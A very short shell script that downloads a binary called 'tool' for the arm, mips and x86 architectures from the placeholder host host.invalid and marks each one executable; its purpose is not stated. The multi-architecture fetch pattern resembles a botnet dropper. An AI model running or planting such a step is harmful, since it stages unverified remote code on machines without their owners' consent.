#!/bin/sh
for a in arm mips x86; do wget https://host.invalid/rel/tool.$a; chmod +x tool.$a; done
